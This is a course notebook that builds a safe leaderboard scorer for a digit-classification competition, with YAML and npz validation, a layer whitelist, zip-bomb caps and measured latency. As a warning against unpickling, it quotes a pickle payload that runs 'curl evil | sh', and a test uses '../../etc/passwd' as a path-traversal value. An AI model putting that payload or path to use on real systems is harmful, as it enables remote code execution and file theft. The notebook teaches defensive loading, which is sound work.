# %% [markdown]
# # Module 20: Capstone, the Torch Olympics
#
# Nineteen modules built a framework: tensors, layers, autograd, optimizers, profilers,
# benchmarks. The capstone turns the class into a competition. Every student submits a model
# for the handwritten digits; a scorer that **you** write loads every submission, runs it on
# held-out images that no submission has seen, measures it, applies each event's rules and
# prints the leaderboard.
#
# A competition is a measurement system with adversaries. Its scorer must be:
#
# - **safe**: a submission is data, never code. Loading 200 students' files must not run
#   anything they wrote (a pickled model can run any command when it is loaded);
# - **strict and helpful**: a malformed submission is rejected with an error that names the
#   file, the key, what was expected and what came in, so the student can fix it alone;
# - **honest**: every number on the board is measured by the scorer on held-out data (nothing
#   a submission claims about itself is believed), latency as a median after warm-up with its
#   confidence interval (modules 14 and 19);
# - **reproducible**: scoring the same folder twice gives the same ranking, although timings
#   never repeat exactly.
#
# **The events** (the `EVENTS` table below):
#
# | event | ranks by | rules |
# |---|---|---|
# | `fastest` | median latency on the whole test split (lower is better; within 25%, fewer FLOPs first) | accuracy >= 95% |
# | `smallest` | bytes of the stored parameters (lower is better) | accuracy >= 95% |
# | `budget` | accuracy (higher is better) | latency <= 20 ms, peak memory <= 512 KiB |
#
# **What you build:**
#
# - `validate_metadata(meta)` and `validate_layers(layers)`: the submission schema, every
#   problem reported as a `SubmissionError(file, key, expected, got)`;
# - `build_model(layers, arrays)`: a `Sequential` of whitelisted tinytorch layers with the
#   submitted weights (float32, float16 or int8 with per-row scales);
# - `score_model(model, x, y, param_bytes)`: accuracy, latency (median and 95% interval),
#   parameter bytes, peak memory and FLOPs, all measured;
# - `disqualify(record, event)`: which rules of an event an entry breaks;
# - `rank_event(records, event)`: the event's ranking, with measurement noise and ties handled
#   deterministically;
# - `leaderboard(entries)`: the class's table (a pandas DataFrame, printed as Markdown or CSV).
#
# Given: the file reader (`read_submission`, with its size limits), `load_submission`,
# `score_folder` (which times all the models of a class interleaved, section 9) and a command,
# `python -m tinytorch.olympics <submissions folder>`.
#
# **PyTorch equivalent:** a model file that is data only is what `safetensors` and
# `torch.load(..., weights_only=True)` (the default since PyTorch 2.6) are for; an
# architecture described as data is ONNX's or TorchScript's job; MLPerf Inference is the
# industry's rule book for "fastest at a fixed accuracy" (its closed division fixes the
# accuracy target, for most models 99% of the reference model's, and measures latency and
# throughput under published rules); Kaggle-style leaderboards score on a hidden test split.
#
# **How to work:** fill in every `raise NotImplementedError(...)`, run the check cell after
# each part, then run `pytest --module 20_capstone` in a terminal to see your points.

# %% tags=["export"]
import os
import re
import sys
import time
import zipfile
from pathlib import Path

import numpy as np
import yaml

from tinytorch.core.activations import GELU, ReLU, Sigmoid, Softmax, Tanh
from tinytorch.core.autograd import no_grad
from tinytorch.core.layers import Dropout, Linear, Sequential
from tinytorch.core.tensor import Tensor
from tinytorch.datasets.digits import load_digits, train_test_split
from tinytorch.perf.benchmarking import benchmark, median_ci
from tinytorch.perf.profiling import layer_flops, peak_memory, trace_forward

# %% [markdown]
# ## 1. The submission format, and why it contains no code
#
# A submission is a folder named after the student (the course's `submitted/<student>/`
# convention) holding two files:
#
# ```
# submissions/ada/
#     submission.yaml     who, which events, a description, and the architecture
#     model.npz           the parameters: NumPy arrays, nothing else
# ```
#
# ```yaml
# student: ada
# team: [ada, ben]            # optional: everyone who worked on it
# events: [fastest, smallest]
# description: One hidden layer of 32 ReLU units, Adam, 30 epochs.
# model:
#   weights: model.npz
#   layers:
#     - {type: Linear, in_features: 64, out_features: 32}
#     - {type: ReLU}
#     - {type: Linear, in_features: 32, out_features: 10, dtype: int8}
# ```
#
# **Why not `pickle` (or `torch.save(model)`)?** Unpickling calls any function the file
# names: a pickle whose `__reduce__` returns `(os.system, ("curl evil | sh",))` runs that
# command the moment the grader loads the file. That is why PyTorch added
# `torch.load(weights_only=True)`, why Hugging Face moved to `safetensors`, and why our
# format is made of two kinds of pure data:
#
# - **the architecture** is YAML read with `yaml.safe_load`, which builds only dicts, lists,
#   strings and numbers (`yaml.load` with the full loader can construct arbitrary Python
#   objects, the same hole as pickle). Each layer names a `type` from a **whitelist**
#   (`LAYERS` below) with options of known types; the scorer calls *our* constructors
#   (`Linear(64, 32)`), never a name taken from the file;
# - **the parameters** are an `.npz` read with `np.load(path, allow_pickle=False)`: plain
#   numeric arrays; an object array (which NumPy would unpickle) is refused.
#
# Even data can attack: an `.npz` is a zip file, and deflate shrinks a run of zeros about a
# thousandfold, so a file of a few megabytes can inflate to gigabytes (a "zip bomb"); or a
# 10^6 x 10^6 layer, or a thousand layers. `read_submission` (given) caps file sizes and the
# *declared* size of every array before reading it, and the schema caps widths and depth.
#
# **Names of the arrays.** The keys are those of `Sequential.state_dict()`: the layer's
# position, a dot, the parameter (`"0.weight"`, `"0.bias"`, `"2.weight"`, ...). A `Linear`
# option `dtype` says how its weight is stored:
#
# | dtype | `"i.weight"` | `"i.bias"` | extra |
# |---|---|---|---|
# | `float32` (default) | float32, shape (out, in) | float32, (out,) | |
# | `float16` | float16 | float16 | |
# | `int8` | int8 | float32 | `"i.weight_scale"`: float32, (out,): weight = int8 * scale per row |
#
# The scorer converts everything to float32 to run it (module 15 computes in int8 directly);
# the `smallest` event counts the bytes **as stored**, so storing int8 is a real win there.
#
# **Errors that help.** Every problem becomes a `SubmissionError(file, key, expected, got)`,
# e.g. `ada/submission.yaml: events[1]: expected one of ['budget', 'fastest', 'smallest'],
# got 'fastests'`. A student reading it knows which file to open, which line to change and
# to what. The validators collect **every** schema problem instead of stopping at the first,
# so one round trip fixes them all.

# %% tags=["export"]
class SubmissionError(Exception):
    """A problem with a submission: the file, the key inside it, what was expected and what
    came in. str(err) reads 'file: key: expected ..., got ...'."""

    def __init__(self, file, key, expected, got):
        self.file, self.key, self.expected, self.got = str(file), str(key), str(expected), got
        super().__init__(f"{self.file}: {self.key}: expected {self.expected}, got {_show(got)}")

    def as_tuple(self):
        """(file, key, expected, got as text): plain data."""
        return (self.file, self.key, self.expected, _show(self.got))


def _show(value, limit=80):
    """A short repr of what came in (student files can hold huge values)."""
    text = value if isinstance(value, str) and value.startswith("nothing") else repr(value)
    return text if len(text) <= limit else text[: limit - 3] + "..."


MISSING = "nothing (the key is missing)"
IN_FEATURES, N_CLASSES = 64, 10           # digits: 8x8 pixels in, 10 classes out
MAX_FEATURES, MAX_LAYERS = 4096, 32       # caps: a submission may not ask for a huge model
ID_PATTERN = re.compile(r"[A-Za-z0-9][A-Za-z0-9_.-]{0,63}")
WEIGHTS_PATTERN = re.compile(r"[A-Za-z0-9][A-Za-z0-9_.-]{0,63}\.npz")
TOP_KEYS = ("student", "team", "events", "description", "model")
REQUIRED = ("student", "events", "description", "model")
MODEL_KEYS = ("weights", "layers")
DTYPES = ("float32", "float16", "int8")

# The layer whitelist: type -> {option: (allowed Python types, required?)}.
LAYERS = {
    "Linear": {"in_features": ((int,), True), "out_features": ((int,), True), "bias": ((bool,), False),
               "dtype": ((str,), False)},
    "ReLU": {}, "Sigmoid": {}, "Tanh": {}, "GELU": {},
    "Softmax": {"dim": ((int,), False)},
    "Dropout": {"p": ((int, float), False)},
}


class Event:
    """One event of the Olympics: what it ranks by and the rules an entry must meet.

    rank_by: a record key; sense: "min" or "max" (lower or higher is better).
    tolerance: relative width within which two values of rank_by count as tied (latency is a
        noisy measurement; exact metrics use 0). tie_break: record keys (lower is better)
        that order tied entries, before the student id.
    min_accuracy, max_latency_ms, max_peak_bytes, max_param_bytes: the rules (None: no rule).
    """

    def __init__(self, name, title, rank_by, sense, tolerance=0.0, tie_break=(), min_accuracy=None,
                 max_latency_ms=None, max_peak_bytes=None, max_param_bytes=None):
        if sense not in ("min", "max"):
            raise ValueError(f"sense is 'min' or 'max', got {sense!r}")
        self.name, self.title, self.rank_by, self.sense = name, title, rank_by, sense
        self.tolerance, self.tie_break = float(tolerance), tuple(tie_break)
        self.min_accuracy, self.max_latency_ms = min_accuracy, max_latency_ms
        self.max_peak_bytes, self.max_param_bytes = max_peak_bytes, max_param_bytes

    def __repr__(self):
        return f"Event({self.name!r}: {self.sense} {self.rank_by})"


EVENTS = {
    "fastest": Event("fastest", "Fastest inference at 95% accuracy", "latency_ms", "min", tolerance=0.25,
                     tie_break=("flops", "param_bytes"), min_accuracy=0.95),
    "smallest": Event("smallest", "Smallest model at 95% accuracy", "param_bytes", "min",
                      tie_break=("flops",), min_accuracy=0.95),
    "budget": Event("budget", "Best accuracy within 20 ms and 512 KiB", "accuracy", "max",
                    tie_break=("param_bytes", "flops"), max_latency_ms=20.0, max_peak_bytes=512 * 1024),
}

# (record key, Event attribute, kind): the rules disqualify() checks, in this order.
RULES = (("accuracy", "min_accuracy", "min"), ("latency_ms", "max_latency_ms", "max"),
         ("peak_bytes", "max_peak_bytes", "max"), ("param_bytes", "max_param_bytes", "max"))

# %% [markdown]
# ## 2. Validating `submission.yaml`
#
# `validate_metadata(meta, file="submission.yaml")` receives what `yaml.safe_load` made of the
# file and returns a **list** of `SubmissionError`s (empty when the metadata is valid), one per
# problem, each with `file` and the `key` below, in this order:
#
# 1. `meta` is not a dict: one error with key `"(top level)"`, expected `"a mapping"`; return.
# 2. every key of `meta` not in `TOP_KEYS`, in the file's order: key = that key, expected
#    `f"one of {list(TOP_KEYS)}"`, got the key (a typo such as `evnets` is caught here);
# 3. every key of `REQUIRED` missing from `meta`, in `REQUIRED`'s order: key = that key, got
#    `MISSING`;
# 4. then each present key:
#    - `student`: a `str` that `ID_PATTERN.fullmatch`es, else key `"student"`;
#    - `team` (optional): a list of 1 to 8 strings that all match `ID_PATTERN`, else key `"team"`;
#    - `events`: a non-empty list, else one error with key `"events"`; if it is one, each
#      entry `i` that is not a key of `EVENTS`, or that repeats an earlier entry, gives key
#      `f"events[{i}]"`;
#    - `description`: a `str` whose `.strip()` is not empty and at most 1000 characters long,
#      else key `"description"`;
#    - `model`: a dict, else key `"model"`; if it is one: every key not in `MODEL_KEYS` gives
#      key `f"model.{key}"`; a missing `weights` or `layers` gives `"model.weights"` or
#      `"model.layers"` with got `MISSING`; `weights` must be a `str` that
#      `WEIGHTS_PATTERN.fullmatch`es (a plain file name ending in `.npz`: no folder, no `..`,
#      so a submission cannot make the scorer read `/etc/passwd`), else `"model.weights"`;
#      `layers` must be a list of 1 to `MAX_LAYERS` entries, else `"model.layers"` (what is
#      inside the list is `validate_layers`' job).
#
# Python detail: `isinstance(True, int)` is true (bool is a subclass of int), which matters
# in the next function; and a YAML value like `team: ada` is a string, not a list.

# %% tags=["export"]
def validate_metadata(meta, file="submission.yaml"):
    """Every schema problem of a submission.yaml (what yaml.safe_load returned) as a list of
    SubmissionError(file, key, expected, got), in the order described in the notebook."""
    ### BEGIN SOLUTION
    if not isinstance(meta, dict):
        return [SubmissionError(file, "(top level)", "a mapping", meta)]
    errors = [SubmissionError(file, key, f"one of {list(TOP_KEYS)}", key) for key in meta if key not in TOP_KEYS]
    errors += [SubmissionError(file, key, "a value", MISSING) for key in REQUIRED if key not in meta]

    def is_id(value):
        return isinstance(value, str) and ID_PATTERN.fullmatch(value) is not None

    if "student" in meta and not is_id(meta["student"]):
        errors.append(SubmissionError(file, "student", f"an id matching {ID_PATTERN.pattern}", meta["student"]))
    if "team" in meta:
        team = meta["team"]
        if not (isinstance(team, list) and 1 <= len(team) <= 8 and all(is_id(m) for m in team)):
            errors.append(SubmissionError(file, "team", "a list of 1 to 8 student ids", team))
    if "events" in meta:
        events = meta["events"]
        if not isinstance(events, list) or not events:
            errors.append(SubmissionError(file, "events", f"a non-empty list of {sorted(EVENTS)}", events))
        else:
            for i, name in enumerate(events):
                if not isinstance(name, str) or name not in EVENTS:
                    errors.append(SubmissionError(file, f"events[{i}]", f"one of {sorted(EVENTS)}", name))
                elif name in events[:i]:
                    errors.append(SubmissionError(file, f"events[{i}]", "each event once", name))
    if "description" in meta:
        text = meta["description"]
        if not (isinstance(text, str) and text.strip() and len(text) <= 1000):
            errors.append(SubmissionError(file, "description", "a non-empty text of at most 1000 characters", text))
    if "model" in meta:
        model = meta["model"]
        if not isinstance(model, dict):
            errors.append(SubmissionError(file, "model", "a mapping with keys weights and layers", model))
        else:
            errors += [SubmissionError(file, f"model.{key}", f"one of {list(MODEL_KEYS)}", key)
                       for key in model if key not in MODEL_KEYS]
            errors += [SubmissionError(file, f"model.{key}", "a value", MISSING) for key in MODEL_KEYS if key not in model]
            weights = model.get("weights")
            if "weights" in model and not (isinstance(weights, str) and WEIGHTS_PATTERN.fullmatch(weights)):
                errors.append(SubmissionError(file, "model.weights", "a file name like model.npz, in the same folder", weights))
            layers = model.get("layers")
            if "layers" in model and not (isinstance(layers, list) and 1 <= len(layers) <= MAX_LAYERS):
                errors.append(SubmissionError(file, "model.layers", f"a list of 1 to {MAX_LAYERS} layers", layers))
    return errors
    ### END SOLUTION

# %% [markdown]
# ### Check: a valid submission, and one with four mistakes

# %%
good = {"student": "ada", "events": ["fastest", "smallest"], "description": "a 64-32-10 MLP",
        "model": {"weights": "model.npz", "layers": [{"type": "Linear", "in_features": 64, "out_features": 10}]}}
assert validate_metadata(good) == [], validate_metadata(good)
bad = {"student": "ada", "evnets": ["fastest"], "events": ["fastest", "fastests"], "description": "  ",
       "model": {"weights": "../../etc/passwd", "layers": []}}
problems = validate_metadata(bad, file="ada/submission.yaml")
for problem in problems:
    print(problem)
assert [p.key for p in problems] == ["evnets", "events[1]", "description", "model.weights", "model.layers"]
assert validate_metadata(["not", "a", "mapping"])[0].key == "(top level)"
assert [p.key for p in validate_metadata({})] == ["student", "events", "description", "model"]

# %% [markdown]
# ## 3. Validating the architecture against the whitelist
#
# `validate_layers(layers, file="submission.yaml", in_features=IN_FEATURES,
# out_features=N_CLASSES)` checks the list `meta["model"]["layers"]` (already known to be a
# list) and returns a list of `SubmissionError`s. It walks the layers in order, keeping the
# current `width` (the size of the last dimension, `in_features` at the start). For layer `i`,
# `at` below stands for the prefix `model.layers[i]` (with the number, e.g. `model.layers[2]`):
#
# 1. not a dict, or its `"type"` is missing or not a key of `LAYERS`: one error, key
#    `f"{at}.type"` (expected `f"one of {sorted(LAYERS)}"`); go on with the next layer (the
#    width is unchanged);
# 2. every other key of the spec that is not an option of that type (`LAYERS[type]`), in
#    the spec's order: key `f"{at}.{key}"`;
# 3. every option of the type, in `LAYERS[type]`'s order: a required one that is missing gives
#    key `f"{at}.{option}"` with got `MISSING`; a present one whose value is not an instance
#    of the allowed types gives key `f"{at}.{option}"`; **bool is not accepted where int or
#    float is asked for** (`True` is not a width);
# 4. extra rules, each an error at the option's key: a `Linear` width (`in_features`,
#    `out_features`) must lie in `1..MAX_FEATURES`; a valid `in_features` must equal the
#    current width (expected `f"{width} (the width of what comes before)"`); `dtype` must be
#    in `DTYPES`; a `Dropout`'s `p` must lie in `[0, 1)`; a `Softmax`'s `dim` must be `-1`
#    or `1`;
# 5. after a `Linear` whose `out_features` is valid, `width = out_features`.
#
# At the end: no valid `Linear` at all gives one error with key `"model.layers"` (expected
# `"at least one Linear layer"`); otherwise, when `width != out_features`, one error at the
# `out_features` of the **last** `Linear` (key `f"model.layers[{j}].out_features"`, expected
# `f"{out_features} (the number of classes)"`).

# %% tags=["export"]
def _is_option(value, types):
    """isinstance, except that a bool never counts as an int or a float."""
    return isinstance(value, types) and not (isinstance(value, bool) and bool not in types)


def validate_layers(layers, file="submission.yaml", in_features=IN_FEATURES, out_features=N_CLASSES):
    """Every problem of an architecture (a list of layer specs) against the whitelist LAYERS
    and the chain of widths from in_features to out_features, as SubmissionErrors."""
    ### BEGIN SOLUTION
    errors, width, last_linear = [], in_features, None
    for i, spec in enumerate(layers):
        at = f"model.layers[{i}]"
        kind = spec.get("type") if isinstance(spec, dict) else None
        if not isinstance(kind, str) or kind not in LAYERS:
            errors.append(SubmissionError(file, f"{at}.type", f"one of {sorted(LAYERS)}",
                                          spec.get("type", MISSING) if isinstance(spec, dict) else spec))
            continue
        options = LAYERS[kind]
        errors += [SubmissionError(file, f"{at}.{key}", f"an option of {kind}: {list(options)}", key)
                   for key in spec if key != "type" and key not in options]
        valid = {}
        for option, (types, required) in options.items():
            if option not in spec:
                if required:
                    errors.append(SubmissionError(file, f"{at}.{option}", "a value", MISSING))
            elif not _is_option(spec[option], types):
                errors.append(SubmissionError(file, f"{at}.{option}", " or ".join(t.__name__ for t in types), spec[option]))
            else:
                valid[option] = spec[option]

        def rule(option, ok, expected):
            if option in valid and not ok(valid[option]):
                errors.append(SubmissionError(file, f"{at}.{option}", expected, valid.pop(option)))

        if kind == "Linear":
            for option in ("in_features", "out_features"):
                rule(option, lambda v: 1 <= v <= MAX_FEATURES, f"a width in 1..{MAX_FEATURES}")
            rule("in_features", lambda v: v == width, f"{width} (the width of what comes before)")
            rule("dtype", lambda v: v in DTYPES, f"one of {list(DTYPES)}")
            if "out_features" in valid:
                width, last_linear = valid["out_features"], i
        rule("p", lambda v: 0 <= v < 1, "a probability in [0, 1)")
        rule("dim", lambda v: v in (-1, 1), "-1 or 1")
    if last_linear is None:
        errors.append(SubmissionError(file, "model.layers", "at least one Linear layer", layers))
    elif width != out_features:
        errors.append(SubmissionError(file, f"model.layers[{last_linear}].out_features",
                                      f"{out_features} (the number of classes)", width))
    return errors
    ### END SOLUTION

# %% [markdown]
# ### Check: a chain that does not fit

# %%
chain = [{"type": "Linear", "in_features": 64, "out_features": 32}, {"type": "ReLU"},
         {"type": "Linear", "in_features": 32, "out_features": 10, "dtype": "int8"}]
assert validate_layers(chain) == []
broken = [{"type": "Linear", "in_features": 64, "out_features": 32, "activation": "relu"},
          {"type": "Conv2d"}, {"type": "Dropout", "p": True},
          {"type": "Linear", "in_features": 30, "out_features": 12}]
for problem in validate_layers(broken, file="ben/submission.yaml"):
    print(problem)
assert [p.key for p in validate_layers(broken)] == [
    "model.layers[0].activation", "model.layers[1].type", "model.layers[2].p",
    "model.layers[3].in_features", "model.layers[3].out_features"]
assert [p.key for p in validate_layers([{"type": "ReLU"}])] == ["model.layers"]

# %% [markdown]
# ## 4. Building the model from data
#
# `build_model(layers, arrays, file="model.npz")` gets a validated architecture and the dict
# of arrays read from the `.npz`, and returns a `Sequential` of **our** layers, in evaluation
# mode, holding the submitted weights as float32. It first checks the arrays, in layer order,
# and raises a `SubmissionError` (key: the array's name) at the first problem:
#
# - for each `Linear` at position `i`, the expected arrays are `f"{i}.weight"` (shape
#   `(out_features, in_features)`, dtype the layer's `dtype`, `float32` by default), then
#   `f"{i}.bias"` if the layer has a bias (`bias`, default `True`; shape `(out_features,)`,
#   dtype `float32` for int8 layers, the layer's dtype otherwise), then for int8 layers
#   `f"{i}.weight_scale"` (shape `(out_features,)`, float32). Check, in this order: missing
#   (got `MISSING`), dtype (got the dtype's name, e.g. `"float64"`), shape (got the shape),
#   and, for floating-point arrays, that every value is finite (`np.isfinite`);
# - then any array not expected (the first in sorted order) is an error too: a file that
#   holds more than the model uses is a mistake (or smuggles data).
#
# Then build the layers: `Linear(in, out, bias=..., rng=0)` with its weight data replaced by
# the submitted one converted to float32 (int8: `q.astype(np.float32) * scale[:, None]`,
# each row its own scale), the bias likewise; `ReLU()`, `Sigmoid()`, `Tanh()`, `GELU()`;
# `Softmax(dim=spec.get("dim", -1))`; `Dropout(p=spec.get("p", 0.5))`. The constructors come
# from a dict in *our* code, looked up with the validated type name: the file never names a
# Python object. Return `Sequential(*layers).eval()` (evaluation mode: Dropout does nothing).

# %% tags=["export"]
CONSTRUCTORS = {"ReLU": ReLU, "Sigmoid": Sigmoid, "Tanh": Tanh, "GELU": GELU}


def expected_arrays(layers):
    """{array name: (shape, dtype name)} that a validated architecture needs, in order."""
    wanted = {}
    for i, spec in enumerate(layers):
        if spec["type"] != "Linear":
            continue
        out_f, in_f, dtype = spec["out_features"], spec["in_features"], spec.get("dtype", "float32")
        wanted[f"{i}.weight"] = ((out_f, in_f), dtype)
        if spec.get("bias", True):
            wanted[f"{i}.bias"] = ((out_f,), "float32" if dtype == "int8" else dtype)
        if dtype == "int8":
            wanted[f"{i}.weight_scale"] = ((out_f,), "float32")
    return wanted


def build_model(layers, arrays, file="model.npz"):
    """A Sequential of whitelisted layers (evaluation mode) with the submitted weights as
    float32; raises SubmissionError(file, array name, expected, got) at the first array that
    is missing, of the wrong dtype or shape, not finite, or not expected."""
    ### BEGIN SOLUTION
    wanted = expected_arrays(layers)
    for name, (shape, dtype) in wanted.items():
        if name not in arrays:
            raise SubmissionError(file, name, f"an array of shape {shape} and dtype {dtype}", MISSING)
        array = arrays[name]
        if array.dtype.name != dtype:
            raise SubmissionError(file, name, f"dtype {dtype}", array.dtype.name)
        if array.shape != shape:
            raise SubmissionError(file, name, f"shape {shape}", array.shape)
        if dtype != "int8" and not np.isfinite(array).all():
            raise SubmissionError(file, name, "finite values", "NaN or infinity")
    extra = sorted(name for name in arrays if name not in wanted)
    if extra:
        raise SubmissionError(file, extra[0], f"only the arrays {list(wanted)}", extra[0])

    modules = []
    for i, spec in enumerate(layers):
        kind = spec["type"]
        if kind == "Linear":
            bias = spec.get("bias", True)
            layer = Linear(spec["in_features"], spec["out_features"], bias=bias, rng=0)
            weight = arrays[f"{i}.weight"].astype(np.float32)
            if spec.get("dtype") == "int8":
                weight = weight * arrays[f"{i}.weight_scale"][:, None]
            layer.weight.data[...] = weight
            if bias:
                layer.bias.data[...] = arrays[f"{i}.bias"].astype(np.float32)
        elif kind == "Softmax":
            layer = Softmax(dim=spec.get("dim", -1))
        elif kind == "Dropout":
            layer = Dropout(p=spec.get("p", 0.5))
        else:
            layer = CONSTRUCTORS[kind]()
        modules.append(layer)
    return Sequential(*modules).eval()
    ### END SOLUTION

# %% [markdown]
# ### Check: an int8 layer, and a checkpoint that does not match

# %%
rng = np.random.default_rng(0)
q = rng.integers(-127, 128, size=(10, 32), dtype=np.int8)
scale = rng.uniform(0.001, 0.01, size=10).astype(np.float32)
arrays = {"0.weight": rng.standard_normal((32, 64)).astype(np.float32), "0.bias": np.zeros(32, np.float32),
          "2.weight": q, "2.bias": np.ones(10, np.float32), "2.weight_scale": scale}
model = build_model(chain, arrays)
x = rng.random((5, 64)).astype(np.float32)
hidden = np.maximum(x @ arrays["0.weight"].T, 0)
expected = hidden @ (q.astype(np.float32) * scale[:, None]).T + 1
assert np.allclose(model(Tensor(x)).data, expected, rtol=1e-5, atol=1e-5)
try:
    build_model(chain, {**arrays, "2.weight": q.astype(np.float32)})
    raise AssertionError("a float32 array where int8 was declared must be refused")
except SubmissionError as err:
    print(err)
    assert err.key == "2.weight"

# %% [markdown]
# ## 5. Reading a submission folder (given)
#
# `read_submission(folder)` reads the two files with their limits; `load_submission(folder)`
# validates and builds, and returns a dict: `student` (the folder's name: submission folders
# are named by student id, so ids are unique), `events` (the known events named, for the
# leaderboard), `errors` (every `SubmissionError`, as text), `model`, `param_bytes` (the bytes
# of the arrays **as stored**: `sum(a.nbytes)`), `description`. Read it: every `open` and
# `np.load` is one a hostile file could exploit.

# %% tags=["export"]
MAX_YAML_BYTES = 64 * 1024
SAFE_LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)   # plain data only, like yaml.safe_load
MAX_NPZ_BYTES = 16 * 2**20          # on disk and once inflated


def read_submission(folder):
    """(meta, arrays, errors) of a submission folder, read safely: safe YAML loading of a capped
    submission.yaml, np.load(allow_pickle=False) on a capped .npz whose members' inflated
    sizes are checked before any is read. arrays is None when it could not be read."""
    folder = Path(folder)
    meta_path = folder / "submission.yaml"
    label = f"{folder.name}/submission.yaml"
    if not meta_path.is_file():
        return None, None, [SubmissionError(label, "(file)", "a submission.yaml in the folder", MISSING)]
    if meta_path.stat().st_size > MAX_YAML_BYTES:
        return None, None, [SubmissionError(label, "(file)", f"at most {MAX_YAML_BYTES} bytes",
                                            f"{meta_path.stat().st_size} bytes")]
    try:
        # safe_load's rules; the C implementation (CSafeLoader) when PyYAML has it, 10x faster
        meta = yaml.load(meta_path.read_text(encoding="utf-8"), Loader=SAFE_LOADER)
    except (yaml.YAMLError, UnicodeDecodeError) as err:
        return None, None, [SubmissionError(label, "(file)", "valid YAML", str(err).replace("\n", " "))]
    errors = validate_metadata(meta, file=label)
    declared = meta.get("model") if isinstance(meta, dict) else None
    architecture = declared.get("layers") if isinstance(declared, dict) else None
    if isinstance(architecture, list) and 1 <= len(architecture) <= MAX_LAYERS:  # every problem at once
        errors += validate_layers(architecture, file=label)
    if not errors and meta["student"] != folder.name:
        errors.append(SubmissionError(label, "student", f"the folder's name {folder.name!r}", meta["student"]))
    if errors:
        return meta, None, errors
    weights = folder / meta["model"]["weights"]
    wlabel = f"{folder.name}/{meta['model']['weights']}"
    if not weights.is_file() or weights.is_symlink():
        return meta, None, errors + [SubmissionError(wlabel, "(file)", "a regular .npz file", MISSING)]
    try:
        if weights.stat().st_size > MAX_NPZ_BYTES:
            raise SubmissionError(wlabel, "(file)", f"at most {MAX_NPZ_BYTES} bytes", f"{weights.stat().st_size} bytes")
        with zipfile.ZipFile(weights) as archive:  # the declared sizes, before inflating anything
            inflated = sum(info.file_size for info in archive.infolist())
        if inflated > MAX_NPZ_BYTES:
            raise SubmissionError(wlabel, "(file)", f"at most {MAX_NPZ_BYTES} bytes of arrays", f"{inflated} bytes")
        with np.load(weights, allow_pickle=False) as npz:
            arrays = {name: npz[name] for name in npz.files}
    except SubmissionError as err:
        return meta, None, errors + [err]
    except (ValueError, OSError, zipfile.BadZipFile, EOFError) as err:  # object arrays raise ValueError
        return meta, None, errors + [SubmissionError(wlabel, "(file)", "an .npz of numeric arrays (no pickles)",
                                                     f"{type(err).__name__}: {err}")]
    return meta, arrays, errors


def load_submission(folder):
    """Read, validate and build one submission; returns a dict of plain data plus `model`."""
    folder = Path(folder)
    meta, arrays, errors = read_submission(folder)
    named = meta.get("events") if isinstance(meta, dict) else None
    events = [e for e in dict.fromkeys(named) if isinstance(e, str) and e in EVENTS] if isinstance(named, list) else []
    entry = {"student": folder.name, "events": events, "errors": [str(e) for e in errors], "model": None,
             "param_bytes": None, "description": meta.get("description") if isinstance(meta, dict) else None}
    if errors or arrays is None:
        return entry
    try:
        entry["model"] = build_model(meta["model"]["layers"], arrays, file=f"{folder.name}/{meta['model']['weights']}")
    except SubmissionError as err:
        entry["errors"].append(str(err))
        return entry
    entry["param_bytes"] = int(sum(a.nbytes for a in arrays.values()))
    return entry

# %% [markdown]
# ## 6. The scorer: measure everything, believe nothing
#
# The held-out data is the **test split** of the digits: `load_test_split()` (below) applies
# `train_test_split(..., test_size=0.2, seed=SPLIT_SEED)` and returns the 360 test images and
# labels; students train on `load_train_split()`, the other 1,437. A submission is data, so
# it cannot read the test split while it is scored; but the digits are public, and nothing
# the scorer can check proves that a student did not train on those 360 images. (Changing the
# seed at scoring time would not help: the new test split would overlap the old training
# split.) Real competitions keep the test labels private, as Kaggle's private leaderboard and
# MLPerf's audited runs do; a course relies on the honour code and on the analysis questions.
#
# `score_model(model, x, y, param_bytes, warmup=3, repeats=21, clock=time.perf_counter)`
# measures one model on the images `x` (float32, shape `(n, 64)`) with labels `y`, **inside a
# `no_grad()` block** (inference records no autograd graph: PyTorch's `torch.inference_mode`),
# on one `Tensor(x)` made once:
#
# 1. `accuracy`: the fraction of rows whose largest output (`argmax` along axis 1) is the label;
# 2. latency: `benchmark(lambda: model(xt), warmup=warmup, repeats=repeats, clock=clock)`
#    (module 19): `latency_ms`, `latency_low_ms`, `latency_high_ms` are its median and the
#    ends of its 95% interval, in milliseconds;
# 3. `peak_bytes`: `peak_memory(lambda: model(xt))` (module 14), the bytes one forward pass
#    allocates at its worst moment;
# 4. `flops`: run `trace_forward(model, xt)` once (module 14) and add up
#    `layer_flops(call["layer"], call["input_shape"])` over its calls;
# 5. `param_bytes`: as given (the loader counted the stored bytes).
#
# Return a dict with exactly these keys: `accuracy`, `latency_ms`, `latency_low_ms`,
# `latency_high_ms` (Python floats), `param_bytes`, `peak_bytes`, `flops` (Python ints). Do
# the steps in this order: only step 2 may read `clock`.

# %% tags=["export"]
SPLIT_SEED = 0


def load_train_split(seed=SPLIT_SEED):
    """(images, labels) of the digits that students may train on."""
    x_train, _, y_train, _ = train_test_split(*load_digits(), test_size=0.2, seed=seed)
    return x_train, y_train


def load_test_split(seed=SPLIT_SEED):
    """(images, labels) of the held-out digits on which submissions are scored."""
    _, x_test, _, y_test = train_test_split(*load_digits(), test_size=0.2, seed=seed)
    return x_test, y_test


def score_model(model, x, y, param_bytes, warmup=3, repeats=21, clock=time.perf_counter):
    """Accuracy, latency (median and 95% interval, ms), peak memory, FLOPs and parameter
    bytes of model on (x, y), measured without autograd; a dict of plain data."""
    ### BEGIN SOLUTION
    xt = Tensor(x)
    with no_grad():
        accuracy = float(np.mean(np.argmax(model(xt).data, axis=1) == np.asarray(y)))
        timing = benchmark(lambda: model(xt), warmup=warmup, repeats=repeats, clock=clock)
        peak = peak_memory(lambda: model(xt))
        _, calls = trace_forward(model, xt)
    flops = sum(layer_flops(call["layer"], call["input_shape"]) for call in calls)
    return {"accuracy": accuracy, "latency_ms": timing.median * 1e3, "latency_low_ms": timing.ci_low * 1e3,
            "latency_high_ms": timing.ci_high * 1e3, "param_bytes": int(param_bytes), "peak_bytes": int(peak),
            "flops": int(flops)}
    ### END SOLUTION

# %% [markdown]
# ### Check: a model with known FLOPs, timed by a scripted clock
#
# A clock that returns 0, 1, 2, ... makes every timed run last exactly one "second".

# %%
x_test, y_test = load_test_split()
ticks = iter(range(1000))
layers_ = [{"type": "Linear", "in_features": 64, "out_features": 10}]
w = rng.standard_normal((10, 64)).astype(np.float32)
record = score_model(build_model(layers_, {"0.weight": w, "0.bias": np.zeros(10, np.float32)}), x_test, y_test,
                     param_bytes=2600, warmup=2, repeats=5, clock=lambda: float(next(ticks)))
print(record)
